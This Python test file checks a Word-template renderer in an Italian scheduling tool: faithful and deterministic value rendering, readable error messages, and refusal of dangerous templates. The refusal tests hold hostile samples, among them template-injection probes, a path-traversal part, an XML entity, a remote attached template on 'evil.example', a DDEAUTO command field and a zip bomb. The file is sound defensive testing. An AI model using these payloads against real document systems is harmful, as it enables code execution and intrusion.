"""A template is harmless or refused, and a draft holds every value it was given, in the same bytes each time."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from docx import Document

from scheduler.core.chart import ChartKind, ChartSpec
from scheduler.core.data import Mark
from scheduler.deadlines import read_register
from scheduler.documents.lint import unknown_names
from scheduler.documents.package import document_text, read_template
from scheduler.documents.render import render
from scheduler.errors import TemplateError
from tests.conftest import ROOT

AT = datetime(2025, 2, 10, 8, tzinfo=UTC)


def template(*paragraphs: str, header: str = "") -> bytes:
    """A Word document with those paragraphs."""
    document = Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    result = io.BytesIO()
    document.save(result)
    return result.getvalue()


def fill(content: bytes, **values: Any) -> str:
    return document_text(render(content, "templates/t.docx", values, AT, "it"))


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The same package with one part added, or put in the place of another."""
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(result, "w") as new:
        for item in old.namelist():
            if item != name:
                new.writestr(item, old.read(item))
        new.writestr(name, part)
    return result.getvalue()


@pytest.mark.parametrize(
    "value",
    ["Rossi & Figli <srl>", "{{ 7 * 7 }}", "{% raw %}", "«è» — 😀", "a\nb", 'O\'Brien "x"', "]]>", "n.r", "  x  y "],
)
def test_a_value_arrives_as_it_is_and_nothing_after_it_is_lost(value: str) -> None:
    found = fill(template("prima {{ x }} dopo", "fine"), x=value)
    assert " ".join(f"prima {value} dopo".split()) in " ".join(found.split())
    assert "fine" in found


def test_control_characters_do_not_reach_the_document() -> None:
    assert "ab" in fill(template("{{ x }}"), x="a\x00\x0bb")


def test_marks_dates_and_headers() -> None:
    found = fill(template("{{ x|numero }}", header="{{ x }}"), x=Mark("n.r"))
    assert found.count("n.r") == 2


def test_the_same_arguments_give_the_same_bytes() -> None:
    content = template("{{ x }}")
    assert render(content, "t", {"x": "a"}, AT, "it") == render(content, "t", {"x": "a"}, AT, "it")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("{{ dati.totalle }}", "il nome «totalle» non è tra quelli che il documento può usare; forse «totale»"),
        ("{{ niente }}", "il nome «niente» non è tra quelli"),
        ("{{ dati.totale", "scritta male"),
        ("{{ dati.totale|safe }}", "scritta male"),
        ("{{ dati.totale|data|euro|boh }}", "scritta male"),
        ("{% for x in y %}", "scritta male"),
        ("{{ dati.__class__.__mro__ }}", "non è permessa"),
        ("{{ ''.__class__ }}", "non è permessa"),
        ("{{ dati.totale + 'x' }}", "non si compila con questi dati"),
        ("{{ elenco[99] }}", "non è tra quelli"),
    ],
)
def test_a_wrong_template_is_a_sentence(body: str, message: str) -> None:
    with pytest.raises(TemplateError) as caught:
        fill(template(body), dati=SimpleNamespace(totale=1), elenco=[1])
    assert message in str(caught.value)
    assert str(caught.value).startswith("templates/t.docx: ")


def test_a_value_that_does_not_arrive_is_an_error() -> None:
    """`{{r }}` wants rich text: a plain value lands outside every run, where Word shows nothing."""
    with pytest.raises(TemplateError, match="«valore-perduto» non è arrivato nel documento"):
        fill(template("prima {{r x }} dopo"), x="valore-perduto")


@pytest.mark.parametrize(
    ("name", "part", "message"),
    [
        ("word/vbaProject.bin", b"x", "contiene macro"),
        ("../evil.xml", b"<a/>", "escono dalla sua cartella"),
        ("word/extra.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>", "entità XML"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            "file esterno",
        ),
        ("word/header9.xml", b"<w:instrText> DATE \\@ d</w:instrText>", "campo DATE"),
        ("word/header9.xml", b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>", "campo DDEAUTO"),
        ("word/header9.xml", b'<w:fldSimple w:instr=" TIME "/>', "campo TIME"),
    ],
)
def test_a_dangerous_template_is_refused(tmp_path: Path, name: str, part: bytes, message: str) -> None:
    path = tmp_path / "t.docx"
    path.write_bytes(with_part(template("x"), name, part))
    with pytest.raises(TemplateError, match=message):
        read_template(path, "templates/t.docx", "it")


def test_page_numbers_and_web_links_are_allowed(tmp_path: Path) -> None:
    part = (
        b'<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" '
        b'Target="https://www.cittametropolitana.mi.it" TargetMode="External"/></Relationships>'
    )
    content = with_part(template("x"), "word/header9.xml", b"<w:instrText> PAGE </w:instrText>")
    path = tmp_path / "t.docx"
    path.write_bytes(with_part(content, "word/_rels/header9.xml.rels", part))
    assert read_template(path, "t", "it")


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"not a zip", zipfile.ZipInfo.__doc__ or b""])
def test_what_is_no_document_is_refused(tmp_path: Path, content: bytes | str) -> None:
    path = tmp_path / "t.docx"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    with pytest.raises(TemplateError, match=r"non è un documento Word \.docx"):
        read_template(path, "t", "it")


def test_a_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    path = tmp_path / "t.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "x")
        package.writestr("word/document.xml", b"\0" * 210_000_000)
    with pytest.raises(TemplateError, match="cresce oltre"):
        read_template(path, "t", "it")


def test_names_are_checked_without_rendering() -> None:
    register = read_register(ROOT / "deadlines.yaml")
    obligation = register.obligation("costi-personale-annuale")
    assert obligation
    obligation = replace(obligation, charts=(ChartSpec("andamento", ChartKind.BAR, ("per_fonte",), "Costi"),))
    content = template(
        "{{ dati.totale }} {{ dati.totalle }} {{ perido.anno }} {{ periodo.ano }}",
        "{% for r in tabelle.costi %}{{ r.lordo }}{{ r.netto }}{{ loop.index }}{% endfor %}",
        "{% for r in fonti %}{{ r.file }}{{ r.lordo }}{% endfor %}",
        "{% for r in tabelle.cossti %}{{ r.x }}{% endfor %}",
        "{{ grafici.andamento }} {{ grafici.andamneto }}",
        header="{{ ufficio.entte }}",
    )
    found = [str(problem) for problem in unknown_names(content, "templates/t.docx", obligation, "it")]
    assert [item.split("«")[1].split("»")[0] for item in found] == [
        "dati.totalle",
        "perido",
        "periodo.ano",
        "tabelle.costi.netto",
        "fonti.lordo",
        "tabelle.cossti",
        "grafici.andamneto",
        "ufficio.entte",
    ]
    assert found[0].endswith("forse «totale»")
    assert found[6].endswith("forse «andamento»")


def test_every_shipped_template_asks_only_for_what_its_obligations_offer() -> None:
    register = read_register(ROOT / "deadlines.yaml")
    seen = set()
    for obligation in register.obligations:
        for name in (*obligation.documents, *([obligation.request_document] if obligation.supplier else [])):
            shown = f"templates/{name}.docx"
            content = read_template(ROOT / shown, shown, "it")
            assert unknown_names(content, shown, obligation, "it") == ()
            seen.add(f"{name}.docx")
    assert seen == {path.name for path in (ROOT / "templates").iterdir()}
